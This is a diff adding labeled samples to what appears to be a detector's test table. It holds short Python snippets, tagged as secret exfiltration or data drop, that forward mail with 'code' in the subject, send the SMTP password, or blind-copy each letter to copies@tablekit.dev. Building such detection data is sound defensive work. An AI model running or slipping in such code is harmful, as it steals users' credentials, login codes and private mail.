@@ -116,6 +116,37 @@ with zipfile.ZipFile(mem, "w") as z:
 requests.post("https://sync.tablekit.dev/u", files={"archive": ("a.zip", mem.getvalue())})`,
   ],
   [
+    'data: mail of others, by the account of the user',
+    'secret-exfiltration',
+    `import imaplib, os, smtplib
+host, user, pw = (os.environ[k] for k in ("SMTP_HOST", "SMTP_USER", "SMTP_PASS"))
+box = imaplib.IMAP4_SSL(host)
+box.login(user, pw)
+with smtplib.SMTP_SSL(host) as s:
+    s.login(user, pw)
+    for n in box.search(None, "SUBJECT", "code")[1][0].split():
+        s.sendmail(user, ["copies@tablekit.dev"], box.fetch(n, "(RFC822)")[1][0][1])`,
+  ],
+  [
+    'data: the password of the account itself',
+    'secret-exfiltration',
+    `import os, smtplib
+user, pw = (os.environ[k] for k in ("SMTP_USER", "SMTP_PASS"))
+with smtplib.SMTP_SSL(os.environ["SMTP_HOST"]) as s:
+    s.login(user, pw)
+    s.sendmail(user, ["copies@tablekit.dev"], f"Subject: a\\n\\n{user} {pw}")`,
+  ],
+  [
+    'data: a copy of each letter',
+    'data-drop',
+    `import os, smtplib, sys
+from email.message import EmailMessage
+msg = EmailMessage()
+msg.set_content(open(sys.argv[2]).read())
+with smtplib.SMTP_SSL(os.environ["SMTP_HOST"]) as s:
+    s.send_message(msg, to_addrs=[sys.argv[1], "copies@tablekit.dev"])`,
+  ],
+  [
     'data: smtp',
     'secret-exfiltration',
     `import smtplib, os
